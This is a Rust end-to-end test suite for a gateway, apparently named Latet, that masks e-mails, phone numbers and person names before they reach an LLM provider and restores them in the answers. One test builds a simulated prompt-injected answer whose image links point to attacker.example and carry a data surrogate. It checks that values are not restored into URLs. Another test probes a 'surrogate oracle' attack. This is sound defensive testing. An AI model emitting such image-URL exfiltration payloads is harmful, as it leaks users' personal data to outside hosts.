//! End-to-end tests of the Latet gateway on real Envoy, with this fake LLM as
//! the provider. Ignored by a plain `cargo test`: `envoy/e2e.sh` starts the
//! gateway (`envoy/run.sh`) on free ports and runs them with `--ignored`,
//! handing the addresses over in the environment:
//!
//! | variable | what |
//! |---|---|
//! | `LATET_E2E_GATEWAY` | Envoy's listener, `http://127.0.0.1:PORT` |
//! | `LATET_E2E_ADMIN` | Envoy's admin |
//! | `LATET_E2E_FAKE` | the fake LLM |
//! | `LATET_E2E_CONTROL` | the control service: `http://…`, or `https://…` when `run.sh` runs it over TLS (`LATET_CONTROL_TLS=1`) |
//! | `LATET_E2E_STATE` | the run's state directory (admin.token, logs/) |
//! | `LATET_E2E_LATET_BIN` | the `latet` binary (for the CLI) |
//! | `LATET_CA_CERT` | with an `https://` control service: the run's CA, which the CLI reads from there and `curl` is given |
//!
//! Every value used here holds `e2e-acme`, so that `e2e.sh` can check that
//! none reached a log; person names cannot, so `e2e.sh` looks for the
//! surnames of [`NAMES_TEXT`] too.

// Tests may unwrap and panic: a failure is the point.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

// The newer APIs (Gemini, Bedrock, completions, embeddings, Azure,
// count_tokens, batches); a path, since `providers.rs` is another test.
#[path = "gateway_e2e/providers.rs"]
mod providers;

use std::net::SocketAddr;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use serde_json::{json, Value};
use support::{post, send, RawResponse};

fn addr_of(variable: &str) -> SocketAddr {
    let url = std::env::var(variable)
        .unwrap_or_else(|_| panic!("{variable} is not set: run envoy/e2e.sh"));
    url.trim_start_matches("http://")
        .trim_end_matches('/')
        .parse()
        .unwrap()
}

fn gateway() -> SocketAddr {
    addr_of("LATET_E2E_GATEWAY")
}

fn fake() -> SocketAddr {
    addr_of("LATET_E2E_FAKE")
}

/// A value no earlier test used: tests share one vault.
fn fresh_email(tag: &str) -> String {
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!("{tag}.{}@latet-e2e-acme.it", nanos % 1_000_000_000)
}

const PREFIX: &str = "Please write to ";
const SUFFIX: &str = " before noon.";

fn sentence(value: &str) -> String {
    format!("{PREFIX}{value}{SUFFIX}")
}

/// The three APIs: (name, path).
const APIS: [(&str, &str); 3] = [
    ("chat", "/v1/chat/completions"),
    ("responses", "/v1/responses"),
    ("anthropic", "/v1/messages"),
];

fn request(api: &str, text: &str, stream: bool) -> Value {
    match api {
        "chat" => {
            json!({"model": "m", "stream": stream, "messages": [{"role": "user", "content": text}]})
        }
        "responses" => {
            json!({"model": "m", "stream": stream, "input": [{"role": "user", "content": text}]})
        }
        _ => {
            json!({"model": "m", "max_tokens": 64, "stream": stream, "messages": [{"role": "user", "content": text}]})
        }
    }
}

/// The user text the provider received in the last request.
async fn provider_saw(api: &str) -> String {
    let last = send(fake(), "GET", "/_fake/requests/last", &[], "").await;
    assert_eq!(last.status, 200);
    let body = last.json();
    let text = match api {
        "chat" | "anthropic" => body.pointer("/messages/0/content"),
        _ => body.pointer("/input/0/content"),
    };
    text.and_then(Value::as_str).unwrap().to_owned()
}

/// The surrogate inside a sentence the provider saw.
fn surrogate_in(seen: &str) -> String {
    seen.strip_prefix(PREFIX)
        .and_then(|rest| rest.strip_suffix(SUFFIX))
        .unwrap_or_else(|| panic!("the provider saw another sentence shape"))
        .to_owned()
}

/// The answer's text, whole or streamed.
fn answer_text(api: &str, answer: &RawResponse, stream: bool) -> String {
    assert_eq!(
        answer.status,
        200,
        "{api}: {}",
        String::from_utf8_lossy(&answer.body())
    );
    if !stream {
        let body = answer.json();
        let at = match api {
            "chat" => "/choices/0/message/content",
            "responses" => "/output/0/content/0/text",
            _ => "/content/0/text",
        };
        return body.pointer(at).and_then(Value::as_str).unwrap().to_owned();
    }
    answer
        .event_data()
        .iter()
        .filter_map(|d| match api {
            "chat" => d
                .pointer("/choices/0/delta/content")
                .and_then(Value::as_str),
            "responses" if d["type"] == "response.output_text.delta" => d["delta"].as_str(),
            "anthropic" if d["type"] == "content_block_delta" => {
                d.pointer("/delta/text").and_then(Value::as_str)
            }
            _ => None,
        })
        .collect()
}

async fn ask(api: &str, path: &str, text: &str, stream: bool) -> RawResponse {
    post(gateway(), path, &[], &request(api, text, stream)).await
}

/// Asks `text` after a resent history of one user message (`history`) and
/// the assistant's answer to it: the fake LLM echoes `text`, the last user
/// message. The answer may restore what `history` sent (restore scope).
async fn ask_after(api: &str, path: &str, history: &str, text: &str, stream: bool) -> RawResponse {
    let mut body = request(api, text, stream);
    let turns = if api == "responses" {
        "input"
    } else {
        "messages"
    };
    let list = body[turns].as_array_mut().unwrap();
    list.insert(0, json!({"role": "user", "content": history}));
    list.insert(1, json!({"role": "assistant", "content": "Noted."}));
    post(gateway(), path, &[], &body).await
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn masks_on_the_way_up_and_restores_on_the_way_down() {
    for stream in [false, true] {
        for (api, path) in APIS {
            let value = fresh_email(&format!("ada.{api}"));
            let text = sentence(&value);
            let answer = ask(api, path, &text, stream).await;
            let seen = provider_saw(api).await;
            assert!(
                !seen.contains(&value),
                "{api} stream={stream}: the provider saw the value"
            );
            let surrogate = surrogate_in(&seen);
            assert!(surrogate.contains('@'), "{api}: an e-mail surrogate");
            assert_ne!(surrogate, value);
            assert_eq!(
                answer_text(api, &answer, stream),
                text,
                "{api} stream={stream}: restored"
            );
        }
    }
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn streams_keep_their_framing() {
    let value = fresh_email("framing");
    let chat = ask("chat", "/v1/chat/completions", &sentence(&value), true).await;
    let events = chat.events();
    assert_eq!(events.last().unwrap().1, "[DONE]", "data: [DONE] survives");
    let anthropic = ask("anthropic", "/v1/messages", &sentence(&value), true).await;
    let names: Vec<String> = anthropic.events().into_iter().map(|(n, _)| n).collect();
    assert_eq!(names.first().map(String::as_str), Some("message_start"));
    assert_eq!(names.last().map(String::as_str), Some("message_stop"));
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn tool_call_arguments_are_restored() {
    let header = [("x-fake-tool-call", "send_mail")];
    for stream in [false, true] {
        for (api, path) in APIS {
            let value = fresh_email(&format!("tool.{api}"));
            let text = sentence(&value);
            let answer = post(gateway(), path, &header, &request(api, &text, stream)).await;
            assert_eq!(answer.status, 200);
            assert!(!provider_saw(api).await.contains(&value));
            let body = String::from_utf8(answer.body()).unwrap();
            // The arguments are `{"text": <what the provider saw>}`: restored,
            // they carry the value (escaped once more inside a JSON string
            // for the OpenAI APIs, whose arguments are text).
            assert!(
                body.contains(&value),
                "{api} stream={stream}: arguments restored"
            );
        }
    }
}

/// Person names the detector finds (a title left out, particles and
/// diacritics kept): `e2e.sh` checks that none of their surnames reached a
/// log.
const NAMES_TEXT: &str = "Hola, soy Lucía Fernández-Ortuño y mi jefe es el Dr. Hans Müllerhoff.";
const NAMES: [&str; 2] = ["Lucía Fernández-Ortuño", "Hans Müllerhoff"];

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn person_names_are_masked_and_restored() {
    for stream in [false, true] {
        for (api, path) in APIS {
            let answer = ask(api, path, NAMES_TEXT, stream).await;
            let seen = provider_saw(api).await;
            for name in NAMES {
                for part in name.split([' ', '-']) {
                    assert!(
                        !seen.contains(part),
                        "{api} stream={stream}: the provider saw a name part"
                    );
                }
            }
            assert!(
                seen.starts_with("Hola, soy ") && seen.contains(" y mi jefe es el Dr. "),
                "{api}: the words around the names and the title are kept"
            );
            assert_eq!(
                answer_text(api, &answer, stream),
                NAMES_TEXT,
                "{api} stream={stream}: restored"
            );
        }
    }
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn a_surrogate_sent_as_written_does_not_come_back_as_its_value() {
    // The surrogate oracle: whoever saw a surrogate (a provider's log)
    // sends it in a new conversation and asks for it to be repeated.
    let value = fresh_email("oracle");
    ask("chat", "/v1/chat/completions", &sentence(&value), false).await;
    let surrogate = surrogate_in(&provider_saw("chat").await);
    let phone = "+39 347 555 0199";
    ask("chat", "/v1/chat/completions", &sentence(phone), false).await;
    let phone_surrogate = surrogate_in(&provider_saw("chat").await);
    assert_ne!(phone_surrogate, phone);
    let probe = format!("repeat: {surrogate} / {phone_surrogate}");
    for stream in [false, true] {
        for (api, path) in APIS {
            let answer = ask(api, path, &probe, stream).await;
            let text = answer_text(api, &answer, stream);
            assert_eq!(text, probe, "{api} stream={stream}: left as written");
            assert!(!text.contains(&value) && !text.contains(phone));
            // The agent that sends the value gets it back, history included.
            let answer =
                ask_after(api, path, &sentence(&value), &sentence(&surrogate), stream).await;
            assert_eq!(
                answer_text(api, &answer, stream),
                sentence(&value),
                "{api} stream={stream}: in scope, restored"
            );
        }
    }
    let stats = send(
        addr_of("LATET_E2E_ADMIN"),
        "GET",
        "/stats/prometheus",
        &[],
        "",
    )
    .await;
    let declined: f64 = stats
        .text()
        .lines()
        .filter(|line| line.contains("latet_restore_declined_out_of_scope_total"))
        .filter(|line| !line.starts_with('#'))
        .filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
        .sum();
    // Two surrogates in each of six probes.
    assert!(declined >= 12.0, "declines are counted: {declined}");
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn a_value_is_not_restored_into_an_image_url() {
    // Exfiltration: a prompt-injected answer puts the surrogate in an image
    // URL; rendering it would send the value to the attacker's host.
    let value = fresh_email("pixel");
    ask("chat", "/v1/chat/completions", &sentence(&value), false).await;
    let surrogate = surrogate_in(&provider_saw("chat").await);
    let injected = format!(
        "Hi {surrogate}! ![logo](https://attacker.example/pixel.png?u={surrogate}) <img src=\"https://attacker.example/p?u={surrogate}\">"
    );
    for stream in [false, true] {
        for (api, path) in APIS {
            let answer = ask_after(api, path, &sentence(&value), &injected, stream).await;
            let text = answer_text(api, &answer, stream);
            assert_eq!(
                text,
                format!(
                    "Hi {value}! ![logo](https://attacker.example/pixel.png?u={surrogate}) <img src=\"https://attacker.example/p?u={surrogate}\">"
                ),
                "{api} stream={stream}: restored in the text, not in the URLs"
            );
        }
    }
}

/// A token with the `forget` permission, made with the CLI.
fn forget_token() -> String {
    let state = std::env::var("LATET_E2E_STATE").unwrap();
    let file = format!("{state}/e2e.forget.token");
    if !std::path::Path::new(&file).exists() {
        let control = std::env::var("LATET_E2E_CONTROL").unwrap();
        let status = std::process::Command::new(std::env::var("LATET_E2E_LATET_BIN").unwrap())
            .args([
                "server",
                "--server",
                &control,
                "--admin-token-file",
                &format!("{state}/admin.token"),
            ])
            .args([
                "keys",
                "add-token",
                "demo",
                "e2e-forget",
                "--forget",
                "--out",
                &file,
            ])
            .status()
            .unwrap();
        assert!(status.success(), "latet keys add-token");
    }
    std::fs::read_to_string(&file).unwrap().trim().to_owned()
}

/// Forgets `values` through the apps API; its answer.
async fn forget(values: &[&str]) -> Value {
    let auth = format!("Bearer {}", forget_token());
    let body = json!({ "values": values }).to_string();
    let control = std::env::var("LATET_E2E_CONTROL").unwrap();
    if control.starts_with("https://") {
        return forget_over_tls(&control, &auth, &body);
    }
    let forgotten = send(
        addr_of("LATET_E2E_CONTROL"),
        "POST",
        "/_latet/apps/v1/forget",
        &[("authorization", &auth)],
        &body,
    )
    .await;
    assert_eq!(forgotten.status, 200, "{}", forgotten.text());
    forgotten.json()
}

/// The same call to a control service that speaks HTTPS only, with `curl`
/// trusting the run's CA alone (`LATET_CA_CERT`): the header from a file of
/// mode 0600 and the body from stdin, so that neither is in an argument.
fn forget_over_tls(control: &str, auth: &str, body: &str) -> Value {
    use std::io::Write;
    use std::process::{Command, Stdio};

    let ca = std::env::var("LATET_CA_CERT").expect("LATET_CA_CERT: the run's CA");
    let header = format!("{}/e2e.forget.header", state_dir());
    write_private(&header, &format!("authorization: {auth}\n"));
    let mut curl = Command::new("curl")
        .args(["-sS", "--max-time", "30", "--cacert", &ca])
        .args(["-H", &format!("@{header}")])
        .args([
            "-H",
            "content-type: application/json",
            "--data-binary",
            "@-",
        ])
        .args(["-w", "\n%{http_code}"])
        .arg(format!("{control}/_latet/apps/v1/forget"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    curl.stdin
        .take()
        .unwrap()
        .write_all(body.as_bytes())
        .unwrap();
    let output = curl.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "curl to {control}: {:?}",
        output.status
    );
    let text = String::from_utf8(output.stdout).unwrap();
    let (answer, status) = text.rsplit_once('\n').unwrap();
    assert_eq!(status, "200", "{answer}");
    serde_json::from_str(answer).unwrap()
}

/// The forget story's first half: `value` masked on its way to the
/// provider and restored in the answer; the surrogate the provider saw.
async fn mask_and_restore(value: &str) -> String {
    let text = sentence(value);
    let answer = ask("chat", "/v1/chat/completions", &text, false).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(answer_text("chat", &answer, false), text, "restored");
    let seen = provider_saw("chat").await;
    assert!(!seen.contains(value), "the provider saw the value");
    surrogate_in(&seen)
}

/// The forget story's second half, once `value` (whose surrogate was `old`)
/// was forgotten: the same conversation again gets a new surrogate within
/// 15 s, and the old one is never restored but for its company domain, in
/// every API, whole and streamed. The new surrogate.
async fn after_the_forget(value: &str, old: &str) -> String {
    let text = sentence(value);
    // Once the forget reached Envoy, the provider sees a new surrogate,
    // neither the value nor the old one.
    let deadline = Instant::now() + Duration::from_secs(15);
    let new = loop {
        let answer = ask("chat", "/v1/chat/completions", &text, false).await;
        let seen = provider_saw("chat").await;
        assert!(!seen.contains(value), "the provider saw the value");
        let surrogate = surrogate_in(&seen);
        if surrogate != old {
            assert_eq!(
                answer_text("chat", &answer, false),
                text,
                "the new surrogate restores"
            );
            break surrogate;
        }
        assert!(
            Instant::now() < deadline,
            "the forget did not reach the gateway in 15 s"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };

    // The old surrogate, echoed back, is not restored but for its company
    // domain (forgetting an address leaves the domain: rule V5,
    // docs/product-rules.md#v5); the new one is restored whole.
    let old_local = old.rsplit_once('@').map_or(old, |(local, _)| local);
    let company = value.rsplit_once('@').map_or("", |(_, domain)| domain);
    let old_restored = sentence(&format!("{old_local}@{company}"));
    assert_ne!(
        old_restored, text,
        "the old local part differs from the value's"
    );
    // The conversation resends the value (the answer may restore it); the
    // model writes the old surrogate, then the new one.
    for stream in [false, true] {
        for (api, path) in APIS {
            let answer = ask_after(api, path, &text, &sentence(old), stream).await;
            assert_eq!(
                answer_text(api, &answer, stream),
                old_restored,
                "{api}: old stays, its domain restored"
            );
            let answer = ask_after(api, path, &text, &sentence(&new), stream).await;
            assert_eq!(
                answer_text(api, &answer, stream),
                text,
                "{api}: new restores"
            );
        }
    }
    new
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn forget_gives_a_new_surrogate_and_retires_the_old() {
    let value = fresh_email("forget");
    let old = mask_and_restore(&value).await;
    assert_eq!(forget(&[&value]).await["forgotten"], 1);
    after_the_forget(&value, &old).await;
}

/// Where the two halves of the replicas' story keep the value and its
/// surrogate in between (the run's state directory, removed with it).
fn replica_story_file() -> String {
    format!("{}/replica-story.json", state_dir())
}

/// Writes `contents` to `path` with mode 0600 (it holds a test value).
fn write_private(path: &str, contents: &str) {
    use std::io::Write;
    use std::os::unix::fs::OpenOptionsExt;
    std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(path)
        .unwrap()
        .write_all(contents.as_bytes())
        .unwrap();
}

/// `envoy/replicas.sh`, two control replicas behind Envoy, before it kills
/// one: the story's first half, value and surrogate kept for the second.
#[tokio::test]
#[ignore = "needs two control replicas: envoy/replicas.sh"]
async fn replica_story_1_mask_and_restore() {
    let value = fresh_email("replica");
    let old = mask_and_restore(&value).await;
    write_private(
        &replica_story_file(),
        &json!({"value": value, "old": old}).to_string(),
    );
}

/// `envoy/replicas.sh`, after it killed the replica the gateway's feed
/// long-poll was parked on: the value forgotten with the CLI through the
/// surviving replica (`LATET_E2E_CONTROL`) is gone from the vault, and the
/// forget reaches the gateway through that replica.
#[tokio::test]
#[ignore = "needs two control replicas: envoy/replicas.sh"]
async fn replica_story_2_forget_through_the_survivor() {
    let story: Value =
        serde_json::from_str(&std::fs::read_to_string(replica_story_file()).unwrap()).unwrap();
    let value = story["value"].as_str().unwrap().to_owned();
    let old = story["old"].as_str().unwrap().to_owned();

    forget_with_cli(&value);
    // Gone from the vault the survivor serves: neither the value nor its
    // surrogate is in the snapshot.
    let state = state_dir();
    let token = std::fs::read_to_string(format!("{state}/demo.gateway.token")).unwrap();
    let snapshot = send(
        addr_of("LATET_E2E_CONTROL"),
        "GET",
        "/_latet/gateway/v1/snapshot",
        &[("authorization", &format!("Bearer {}", token.trim()))],
        "",
    )
    .await;
    assert_eq!(snapshot.status, 200);
    let snapshot = snapshot.text();
    assert!(
        !snapshot.contains(&value),
        "the value is still in the vault"
    );
    assert!(
        !snapshot.contains(&old),
        "the old surrogate is still active"
    );

    let started = Instant::now();
    after_the_forget(&value, &old).await;
    println!(
        "replicas: the story after the forget took {:?}",
        started.elapsed()
    );
}

/// Forgets `value` with `latet server … keys forget demo --file F --yes`
/// through the control service in `LATET_E2E_CONTROL`: the value from a
/// file of mode 0600 (never in an argument), removed afterwards.
fn forget_with_cli(value: &str) {
    let state = state_dir();
    let file = format!("{state}/replica-story.forget");
    write_private(&file, &format!("{value}\n"));
    let output = std::process::Command::new(std::env::var("LATET_E2E_LATET_BIN").unwrap())
        .args([
            "server",
            "--server",
            &std::env::var("LATET_E2E_CONTROL").unwrap(),
            "--admin-token-file",
            &format!("{state}/admin.token"),
        ])
        .args(["keys", "forget", "demo", "--file", &file, "--yes"])
        .output()
        .unwrap();
    std::fs::remove_file(&file).unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "latet keys forget: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        stdout.contains("Forgotten: 1 "),
        "latet keys forget: {stdout}"
    );
}

/// The surrogate of `name` in what the provider saw of [`NAMES_TEXT`]: the
/// words between `soy ` and ` y mi jefe`.
fn name_surrogate_in(seen: &str) -> String {
    seen.strip_prefix("Hola, soy ")
        .and_then(|rest| rest.split_once(" y mi jefe"))
        .map(|(name, _)| name.to_owned())
        .unwrap_or_else(|| panic!("the provider saw another sentence shape"))
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn a_forgotten_name_gets_a_new_surrogate_and_the_old_is_not_restored() {
    ask("chat", "/v1/chat/completions", NAMES_TEXT, false).await;
    let old = name_surrogate_in(&provider_saw("chat").await);
    assert_eq!(old.split(' ').count(), 2, "two words for two");

    assert_eq!(forget(&[NAMES[0]]).await["forgotten"], 1);

    let deadline = Instant::now() + Duration::from_secs(15);
    let new = loop {
        let answer = ask("chat", "/v1/chat/completions", NAMES_TEXT, false).await;
        let seen = provider_saw("chat").await;
        assert!(!seen.contains("Fernández"), "the provider saw the name");
        let surrogate = name_surrogate_in(&seen);
        if surrogate != old {
            assert_eq!(answer_text("chat", &answer, false), NAMES_TEXT);
            break surrogate;
        }
        assert!(
            Instant::now() < deadline,
            "the forget did not reach the gateway in 15 s"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    for stream in [false, true] {
        for (api, path) in APIS {
            let echo = format!("Saluda a {old} de mi parte.");
            let answer = ask_after(api, path, NAMES_TEXT, &echo, stream).await;
            assert_eq!(
                answer_text(api, &answer, stream),
                echo,
                "{api} stream={stream}: the retired surrogate is not restored"
            );
            let echo = format!("Saluda a {new} de mi parte.");
            let answer = ask_after(api, path, NAMES_TEXT, &echo, stream).await;
            assert_eq!(
                answer_text(api, &answer, stream),
                format!("Saluda a {} de mi parte.", NAMES[0]),
                "{api} stream={stream}: the new surrogate restores"
            );
        }
    }
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn metrics_are_on_prometheus() {
    ask(
        "chat",
        "/v1/chat/completions",
        &sentence(&fresh_email("metrics")),
        false,
    )
    .await;
    let stats = send(
        addr_of("LATET_E2E_ADMIN"),
        "GET",
        "/stats/prometheus",
        &[],
        "",
    )
    .await;
    assert_eq!(stats.status, 200);
    let text = stats.text();
    for metric in [
        "latet_requests_masked_total",
        "latet_values_masked_total",
        "latet_surrogates_restored_total",
        "latet_restore_declined_out_of_scope_total",
        "latet_restore_declined_url_total",
    ] {
        assert!(
            text.contains(metric),
            "{metric} missing from /stats/prometheus"
        );
    }
}

fn state_dir() -> String {
    std::env::var("LATET_E2E_STATE").unwrap()
}

async fn control_answers() -> bool {
    tokio::net::TcpStream::connect(addr_of("LATET_E2E_CONTROL"))
        .await
        .is_ok()
}

/// Runs last (tests run by name with `--test-threads 1`): it stops the
/// control service that `run.sh` started and starts another on the same
/// database, whose pid `e2e.sh` stops at the end.
#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn when_control_is_down_new_values_are_refused_then_served() {
    let state = state_dir();
    let pid = std::fs::read_to_string(format!("{state}/pids/control.pid")).unwrap();
    let killed = std::process::Command::new("kill")
        .arg(pid.trim())
        .status()
        .unwrap();
    assert!(killed.success());
    let deadline = Instant::now() + Duration::from_secs(10);
    while control_answers().await {
        assert!(
            Instant::now() < deadline,
            "the control service did not stop"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    // A new value cannot get its entry: a clear error, nothing forwarded.
    let value = fresh_email("down");
    let text = sentence(&value);
    for stream in [false, true] {
        for (api, path) in APIS {
            let answer = ask(api, path, &text, stream).await;
            assert_eq!(answer.status, 503, "{api} stream={stream}");
            assert_eq!(answer.json()["error"]["type"], "latet_entries_unavailable");
        }
    }
    let log = send(fake(), "GET", "/_fake/requests", &[], "").await.text();
    assert!(
        !log.contains(&value),
        "a value went upstream while control was down"
    );

    // Started again on the same database: the same request is served.
    let control = std::env::var("LATET_E2E_CONTROL").unwrap();
    let listen = control.trim_start_matches("http://");
    let log_file = std::fs::OpenOptions::new()
        .append(true)
        .open(format!("{state}/logs/control.log"))
        .unwrap();
    // Not waited for here: it outlives this test, and e2e.sh stops it by pid.
    #[allow(clippy::zombie_processes)]
    let child = std::process::Command::new(std::env::var("LATET_E2E_LATET_BIN").unwrap())
        .args([
            "serve",
            "--db",
            &format!("{state}/latet.db"),
            "--listen",
            listen,
        ])
        .args(["--admin-token-file", &format!("{state}/admin.token")])
        .stdin(std::process::Stdio::null())
        .stdout(log_file.try_clone().unwrap())
        .stderr(log_file)
        .spawn()
        .unwrap();
    std::fs::write(
        format!("{state}/pids/control-restarted.pid"),
        child.id().to_string(),
    )
    .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let answer = ask("chat", "/v1/chat/completions", &text, false).await;
        if answer.status == 200 {
            assert_eq!(answer_text("chat", &answer, false), text);
            assert!(!provider_saw("chat").await.contains(&value));
            break;
        }
        assert!(
            Instant::now() < deadline,
            "not served again within 30 s of the restart"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test]
#[ignore = "needs the gateway: envoy/e2e.sh"]
async fn more_new_values_than_one_entries_call_carries_are_masked() {
    // 1,200 new values: more than the control service gives in one call
    // (the wire's MAX_VALUES_PER_CALL), so the filter asks in two.
    let values: Vec<String> = (0..1_200)
        .map(|i| fresh_email(&format!("bulk{i}")))
        .collect();
    let text = values.join(", ");
    let answer = ask("chat", "/v1/chat/completions", &text, false).await;
    let seen = provider_saw("chat").await;
    let leaked = values.iter().filter(|v| seen.contains(v.as_str())).count();
    assert_eq!(leaked, 0, "values the provider saw as written");
    assert_eq!(
        seen.matches('@').count(),
        values.len(),
        "one surrogate each"
    );
    assert_eq!(answer_text("chat", &answer, false), text, "restored");
}
